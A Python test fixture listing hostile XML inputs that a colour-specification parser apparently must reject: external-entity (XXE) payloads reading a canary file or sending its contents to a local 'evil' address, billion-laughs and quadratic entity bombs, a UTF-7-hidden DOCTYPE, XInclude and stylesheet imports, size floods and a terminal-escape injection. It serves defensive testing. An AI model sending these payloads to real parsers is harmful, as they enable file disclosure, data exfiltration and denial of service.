"""Documents that try to make their reader open, load or wait for something."""

from __future__ import annotations

from tests.spec.corpus import (
    BODY,
    CANARY,
    COMPLETE,
    DECLARATION,
    PORT,
    Case,
    edited,
    line_of,
)

_DOCTYPE = r"a document type definition \(DOCTYPE\) is never accepted: remove it"
_XML = "not well-formed XML"
_FILE = f"file://{CANARY}"
_HTTP = f"http://127.0.0.1:{PORT}/evil"
_CROWD = "more than 8000 elements and attributes: no colour needs as many"
_LARGE = "larger than 1048576 bytes: no document about a colour needs as many"
_ENCODING = "declares another encoding than its bytes are in: save it as"


def _doctype(
    name: str, subset: str, text: str = "&x;", encoding: str = "utf-8"
) -> Case:
    """A document with this type declaration, its name replaced by ``text``."""
    body = edited("Quartz Silver", text, BODY)
    declaration = DECLARATION.replace("UTF-8", encoding.upper())
    document = f"{declaration}\n<!DOCTYPE colorSpecification {subset}>\n{body}"
    return Case(name, document, _DOCTYPE, 2, "!DOCTYPE", encoding=encoding)


def _laughs() -> str:
    levels = [f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 10)]
    return f'[<!ENTITY x0 "ha">{"".join(levels)}]'


TYPE_DECLARATIONS = [
    _doctype("empty DOCTYPE", "", "Quartz"),
    _doctype("internal entity", '[<!ENTITY x "Quartz">]'),
    _doctype("file as an entity", f'[<!ENTITY x SYSTEM "{_FILE}">]'),
    _doctype("path as an entity", f'[<!ENTITY x SYSTEM "{CANARY}">]'),
    _doctype("page as an entity", f'[<!ENTITY x SYSTEM "{_HTTP}">]'),
    _doctype(
        "FTP server as an entity", f'[<!ENTITY x SYSTEM "ftp://127.0.0.1:{PORT}/">]'
    ),
    _doctype("public entity", f'[<!ENTITY x PUBLIC "-//evil//EN" "{_HTTP}">]'),
    _doctype("netdoc address", f'[<!ENTITY x SYSTEM "netdoc://{CANARY}">]'),
    _doctype("unparsed entity", f'[<!ENTITY x SYSTEM "{_FILE}" NDATA gif>]', "Quartz"),
    _doctype("file as a parameter entity", f'[<!ENTITY % x SYSTEM "{_FILE}"> %x;]', ""),
    _doctype("page as a parameter entity", f'[<!ENTITY % x SYSTEM "{_HTTP}"> %x;]', ""),
    _doctype(
        "parameter entity that builds another",
        f"""[<!ENTITY % f SYSTEM "{_FILE}">
        <!ENTITY % all "<!ENTITY x SYSTEM '{_HTTP}?%f;'>"> %all;]""",
    ),
    _doctype("external type definition", f'SYSTEM "{_FILE}"', "Quartz"),
    _doctype("type definition on a server", f'SYSTEM "{_HTTP}"', "Quartz"),
    _doctype("public type definition", f'PUBLIC "-//evil//EN" "{_HTTP}"', "Quartz"),
    _doctype("default attribute", '[<!ATTLIST gloss angle CDATA "60">]', "Quartz"),
    _doctype("entity that names itself", '[<!ENTITY x "&y;"><!ENTITY y "&x;">]'),
    _doctype("billion laughs", _laughs(), "&x9;"),
    _doctype("quadratic blow-up", f'[<!ENTITY x "{"x" * 50_000}">]', "&x;" * 50_000),
    _doctype("entity in UTF-16", f'[<!ENTITY x SYSTEM "{_FILE}">]', encoding="utf-16"),
    _doctype("laughs in UTF-16", _laughs(), "&x9;", encoding="utf-16"),
]

_SEVEN = f"+ADwAIQ-DOCTYPE x +AFsAPAAh-ENTITY x SYSTEM +ACI-{_FILE}+ACIAPgBdAD4-"

ENCODINGS = [
    Case(
        "DOCTYPE hidden in UTF-7",
        edited("UTF-8", "UTF-7").replace("\n", f"\n{_SEVEN}\n", 1),
        f"{_ENCODING} UTF-8",
        1,
        value="UTF-7",
    ),
    Case(
        "says UTF-16, is UTF-8",
        edited("UTF-8", "UTF-16"),
        f"{_ENCODING} UTF-8",
        1,
        value="UTF-16",
    ),
    Case(
        "says UTF-8, is UTF-16",
        COMPLETE,
        f"{_ENCODING} UTF-16",
        1,
        value="UTF-8",
        encoding="utf-16",
    ),
    Case(
        "says Latin-1",
        edited("UTF-8", "ISO-8859-1"),
        f"{_ENCODING} UTF-8",
        1,
        value="ISO-8859-1",
    ),
    Case(
        "Latin-1 that says UTF-8",
        edited("Quartz", "Grün"),
        r"byte \d+ is not UTF-8: save the file as UTF-8",
        3,
        encoding="latin-1",
    ),
    Case(
        "EBCDIC",
        edited("UTF-8", "IBM037"),
        "byte 3 is not UTF-8",
        1,
        encoding="cp037",
    ),
    Case(
        "says Latin-1 behind a mark of UTF-8",
        edited("UTF-8", "ISO-8859-1"),
        f"{_ENCODING} UTF-8",
        1,
        value="ISO-8859-1",
        encoding="utf-8-sig",
    ),
    Case("UTF-32", edited("UTF-8", "UTF-32"), _XML, 1, encoding="utf-32"),
    Case("UTF-16 without mark", BODY, _XML, 1, encoding="utf-16-le"),
    Case(
        "lone surrogate in UTF-8",
        edited("Quartz", "Qu\ud800rtz"),
        r"byte \d+ is not UTF-8",
        3,
    ),
]

_XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
_STRANGER = "this element does not belong here"

INCLUSIONS = [
    Case(
        f"XInclude of a {what}",
        edited("  <gloss", f'  <xi:include {_XI} href="{address}"/>\n  <gloss'),
        _STRANGER,
        line_of("  <gloss"),
        "include",
    )
    for what, address in {"file": _FILE, "path": CANARY, "page": _HTTP}.items()
] + [
    Case(
        "XInclude of a text",
        edited("Quartz", f'<xi:include {_XI} parse="text" href="{_FILE}"/>'),
        "only text may stand in here",
        3,
        "name",
        "Silver",
    ),
    Case(
        "XInclude as the root",
        f'<xi:include {_XI} href="{_FILE}"/>',
        "not a colour specification",
        1,
        "include",
        "http://www.w3.org/2001/XInclude",
    ),
    Case(
        "stylesheet as the document",
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f"<xsl:include href='{_HTTP}'/></xsl:stylesheet>",
        "not a colour specification",
        1,
        "stylesheet",
        "http://www.w3.org/1999/XSL/Transform",
    ),
    Case(
        "schema inside the document",
        edited(
            "  <gloss",
            '  <xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
            f'<xs:import schemaLocation="{_HTTP}"/></xs:schema>\n  <gloss',
        ),
        _STRANGER,
        line_of("  <gloss"),
        "schema",
    ),
]


def _many(part: str, count: int, before: str = "      <factor>0.2813") -> str:
    return edited(before, part * count + before)


def _spectra() -> str:
    factors = "<factor>x</factor>" * 500
    rows = [f'<spectrum aspecular="-{n}" start="400" step="1">' for n in range(10)]
    return "".join(f"{row}{factors}</spectrum>" for row in rows)


FLOODS = [
    Case(
        "2 MiB of white space",
        COMPLETE + " " * (2 << 20),
        _LARGE,
        value="2098826 bytes",
    ),
    Case(
        "2 MiB of one name",
        edited("Quartz", "x" * (2 << 20)),
        _LARGE,
        value="2098820 bytes",
    ),
    Case("300 levels deep", edited("Quartz", "<a>" * 300 + "</a>" * 300), _XML, 3),
    Case("300 000 open elements", edited("Quartz", "<a>" * 300_000), _XML, 3),
    Case(
        "wrong factors by the thousand",
        _many("<factor/>", 100_000),
        _CROWD,
        value="100082",
    ),
    Case(
        "right factors by the thousand",
        _many("<factor>0</factor>", 50_000),
        _CROWD,
        value="50082",
    ),
    Case(
        "attributes by the thousand",
        edited("<gloss", "<gloss " + " ".join(f'a{n}="1"' for n in range(50_000))),
        _CROWD,
        value="50082",
    ),
    Case(
        "wrong factors up to the limit",
        _many("\n<factor/>", 7_900),
        "factor must be a plain decimal number",
        line_of("      <factor>0.2813") + 1,
        "factor",
        "",
    ),
    Case(
        "wrong factors in every spectrum",
        edited("  <spectra>", f"  <spectra>{_spectra()}"),
        "factor must be a plain decimal number",
        line_of("  <spectra>"),
        "factor",
        "x",
    ),
    Case(
        "wrong attributes up to the limit",
        edited("<gloss", "<gloss " + " ".join(f'a{n}="1"' for n in range(7_900))),
        "a0 does not belong here",
        11,
        "gloss",
        "1",
    ),
    Case(
        "name spaces by the thousand",
        edited(
            "<gloss",
            "<gloss " + " ".join(f'xmlns:a{n}="u"' for n in range(40_000)) + "x",
        ),
        _XML,
        11,
    ),
    Case("unbound prefixes by the thousand", _many("<a:b/>", 100_000), _XML, 20),
    Case(
        "number of 900 000 digits",
        edited('L="60.1"', f'L="{"1" * 900_000}"'),
        "L must lie between -16 and 170",
        8,
        "sample",
        "1" * 80 + "…",
    ),
    Case(
        "number that is one only at first",
        edited('L="60.1"', f'L="0.{"1" * 900_000}x"'),
        "L must be a plain decimal number",
        8,
        "sample",
        "0." + "1" * 78 + "…",
    ),
    Case(
        "name of 900 000 characters",
        edited("Quartz Silver", "x" * 900_000),
        "name must hold at most 500 characters",
        3,
        "name",
        "x" * 80 + "…",
    ),
    Case(
        "element with an endless name",
        edited("<gloss", f"<{'g' * 40_000}/><gloss"),
        _STRANGER,
        11,
        "g" * 80 + "…",
    ),
    Case(
        "namespace without end",
        f'<colorSpecification xmlns="urn:{"x" * 900_000}"/>',
        "not a colour specification",
        1,
        "colorSpecification",
        "urn:" + "x" * 76 + "…",
    ),
]

QUOTATIONS = [
    Case(
        "forged line in an address",
        edited("<gloss", '<gloss xmlns:x="a b&#10;&#x9b;2J"'),
        rf"{_XML} \(xmlns:x: 'a b\?\?2J' is not a valid URI\)",
        11,
    ),
]

HOSTILE = TYPE_DECLARATIONS + ENCODINGS + INCLUSIONS + FLOODS + QUOTATIONS
